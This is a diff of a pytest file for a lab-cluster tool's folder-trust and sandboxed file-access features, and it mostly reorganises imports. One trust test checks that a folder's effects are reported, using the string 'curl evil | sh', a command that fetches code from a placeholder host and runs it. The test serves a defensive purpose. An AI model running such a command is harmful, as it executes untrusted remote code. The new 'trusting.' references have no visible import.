@@ -10,14 +10,8 @@ from typing import Any
 
 import pytest
 
-from labtui.cluster.local_files import (
-    files_inside,
-    make_folder_inside,
-    open_inside,
-    read_inside,
-    stat_inside,
-    write_inside,
-)
+from labtui.cluster import local_files
+from labtui.cluster.local_files import open_inside, read_inside, stat_inside, write_inside
 from labtui.commands.cli import main
 from labtui.commands.terminal import ask_trust
 from labtui.domain.errors import DataError, FolderError, StoreError, UsageError
@@ -26,16 +20,7 @@ from labtui.session.folder import LabFolder, find_folder
 from labtui.session.labs import open_answers, read_answers
 from labtui.session.opening import effects_of_trust, lock_folder, stored_state
 from labtui.session.session import Session
-from labtui.session.settings import (
-    NotTrusted,
-    changed,
-    check_trust,
-    forget,
-    is_first_start,
-    read_settings,
-    trust,
-    write_settings,
-)
+from labtui.session.settings import changed, check_trust, read_settings, trust, write_settings
 from labtui.session.store import Store
 from tests.conftest import TextTerminal
 from tests.session.conftest import Bench, accepted, draft
@@ -78,13 +63,13 @@ def test_nothing_is_asked_sent_or_written_before_trust(received, bench, monkeypa
     calls = len(bench.cluster.calls)
     monkeypatch.setattr("labtui.session.lab_cluster.connection_to", lambda *_: bench.cluster)
     with Session.open(received) as session:
-        assert isinstance(session.why_read_only, NotTrusted)
+        assert isinstance(session.why_read_only, trusting.NotTrusted)
         assert len(session.state.submissions) == 2
         for change in (
             lambda: session.submit(draft()), lambda: session.cancel(1), lambda: session.hold(1),
             lambda: session.test_only(draft()),
         ):  # fmt: skip
-            with pytest.raises(NotTrusted, match="not trusted"):
+            with pytest.raises(trusting.NotTrusted, match="not trusted"):
                 change()
         session.refresh()
     assert len(bench.cluster.calls) == calls
@@ -128,10 +113,10 @@ def test_what_only_looks_works_and_writes_nothing(received, arguments, monkeypat
 
 def test_the_first_start_is_the_first_one_only(monkeypatch, tmp_path):
     monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / "state"))
-    assert [is_first_start(), is_first_start()] == [True, False]
+    assert [trusting.is_first_start(), trusting.is_first_start()] == [True, False]
     (tmp_path / "file").touch()
     monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / "file"))
-    assert not is_first_start(), "what cannot be remembered is not shown each time"
+    assert not trusting.is_first_start(), "what cannot be remembered is not shown each time"
 
 
 def test_trust_is_of_a_folder_as_it_was(lab_path, tmp_path):
@@ -155,7 +140,7 @@ def test_trust_is_of_a_folder_as_it_was(lab_path, tmp_path):
     assert why is not None and any("curl evil | sh" in line for line in effects_of_trust(why.path))
     trust(lab_path)
     assert check_trust(lab_path) is None
-    forget(lab_path)
+    trusting.forget(lab_path)
     assert check_trust(lab_path) is not None
 
 
@@ -244,8 +229,8 @@ def test_no_path_leads_out(snare, name):
                 os.close(open_inside(root, path, os.O_WRONLY | os.O_CREAT | os.O_APPEND))
     if name.startswith("linked"):
         with pytest.raises(OSError, match="link"):
-            make_folder_inside(root, "linked/deep")
-        assert list(files_inside(root, "linked")) == []
+            local_files.make_folder_inside(root, "linked/deep")
+        assert list(local_files.files_inside(root, "linked")) == []
     assert tree(outside) == before
 
 
@@ -331,7 +316,10 @@ def test_one_question_says_where_as_whom_and_what(received, tmp_path, monkeypatc
     wanted = changed(read_settings(received / "lab.toml"), user="nct01042", port=2222, identity="~/key")
     write_settings(received / "lab.toml", wanted)
     monkeypatch.setattr(sys, "stdin", TextTerminal("n\n"))
-    assert isinstance(ask_trust(received, given=False), NotTrusted) and check_trust(received) is not None
+    assert (
+        isinstance(ask_trust(received, given=False), trusting.NotTrusted)
+        and check_trust(received) is not None
+    )
     shown = " ".join(capsys.readouterr().err.split())
     assert shown.count("Trust this folder?") == 1
     for words in (
